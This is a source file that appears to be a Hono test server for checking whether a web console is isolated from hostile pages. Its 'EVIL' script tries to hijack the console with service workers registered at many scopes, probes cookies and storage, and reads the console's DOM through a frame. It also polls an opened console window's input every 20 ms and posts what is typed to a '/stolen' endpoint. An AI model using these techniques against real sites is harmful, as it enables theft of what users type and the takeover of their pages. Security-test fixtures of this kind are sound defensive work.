/** Pages that want what a person enters into the console, a page with a service worker of its own, and one with cookies. */
import { Hono } from 'hono'

const stolen = []
const page = script => `<!doctype html><title>a page</title><script>${script}</script>`
const html = { 'content-type': 'text/html' }
const js = { 'content-type': 'text/javascript', 'service-worker-allowed': '/' }

/** Serves this instead of the console. */
const FALSE_CONSOLE = page(`document.title = 'taken over'`)
const WORKER = `
self.addEventListener('install', () => self.skipWaiting())
self.addEventListener('activate', event => event.waitUntil(self.clients.claim()))
self.addEventListener('fetch', event => {
  const { pathname } = new URL(event.request.url)
  if (pathname.endsWith('/console') || pathname.endsWith('/by-worker'))
    event.respondWith(new Response(${JSON.stringify(FALSE_CONSOLE)}, { headers: { 'content-type': 'text/html' } }))
})`

/** Tries everything, and says what has worked. */
const EVIL = `
const tried = {}
const attempt = async (name, work) => { tried[name] = await Promise.resolve().then(work).then(() => 'worked', error => error.name) }
const register = (script, scope) => navigator.serviceWorker.register(script, { scope }).then(() => navigator.serviceWorker.ready)
globalThis.done = (async () => {
  for (const script of ['./worker.js', './app/worker.js', './console/worker.js', '/worker.js', '/docs/worker.js'])
    for (const scope of ['/', '/console', '/docs']) await attempt(script + ' for ' + scope, () => register(script, scope))
  await attempt('storage', () => sessionStorage.length)
  await attempt('cookies', () => document.cookie)
  await attempt('database', () => indexedDB.open('x'))
  const frame = document.createElement('iframe')
  frame.src = '/console'
  await new Promise(done => { frame.onload = done; frame.onerror = done; document.body.append(frame) })
  await attempt('frame', () => frame.contentWindow.document.querySelector('#root, form').nodeName)
  return { origin: self.origin, tried }
})()
/** Opens the console, and reads what is entered into it for as long as the window can be reached. */
globalThis.watch = () => {
  const opened = window.open('/console#/deployments')
  setInterval(() => {
    try {
      const input = opened.document.querySelector('input')
      fetch('/stolen', { method: 'POST', body: JSON.stringify({ title: opened.document.title, value: input && input.value }) })
    } catch {}
  }, 20)
}`

/** A page of the application that uses a service worker, a script, a style and a request of its own. */
const OWN = `<!doctype html><title>own</title><link rel="stylesheet" href="./style.css"><script src="./script.js"></script>
<script>
globalThis.ask = async () => (await fetch('../own/data')).json()
globalThis.work = async () => {
  const registration = await navigator.serviceWorker.register('./worker.js')
  await navigator.serviceWorker.ready
  return new URL(registration.scope).pathname
}
</script>`

export const app = new Hono()
  .use('*', async (c, next) => {
    await next()
    if (c.req.path.endsWith('/console') || c.req.path === '/docs')
      c.res = new Response(FALSE_CONSOLE, { headers: html })
    c.header('clear-site-data', '"*"')
    c.header('cross-origin-opener-policy', 'same-origin')
  })
  .get('/evil', c => c.html(`<body></body>${page(EVIL)}`))
  .get('/worker.js', c => c.body(WORKER, 200, js))
  .get('/app/worker.js', c => c.body(WORKER, 200, js))
  .get('/console/worker.js', c => c.body(WORKER, 200, js))
  .get('/docs/worker.js', c => c.body(WORKER, 200, js))
  .get('/own/worker.js', c => c.body(WORKER, 200, js))
  .get('/own/page', c => c.html(OWN))
  .get('/own/script.js', c => c.body('globalThis.loaded = true', 200, { 'content-type': 'text/javascript' }))
  .get('/own/style.css', c => c.body('body { color: rgb(1, 2, 3) }', 200, { 'content-type': 'text/css' }))
  .get('/own/data', c => c.json({ cookie: c.req.header('cookie') ?? null }))
  .get('/own/cookies', c => {
    for (const cookie of c.req.queries('set') ?? []) c.header('set-cookie', cookie, { append: true })
    return c.text('set')
  })
  .post('/stolen', async c => {
    stolen.push(await c.req.json().catch(() => null))
    return c.body(null, 204)
  })
  .get('/stolen', c => c.json(stolen))
  .get('/console', c => c.html(FALSE_CONSOLE))
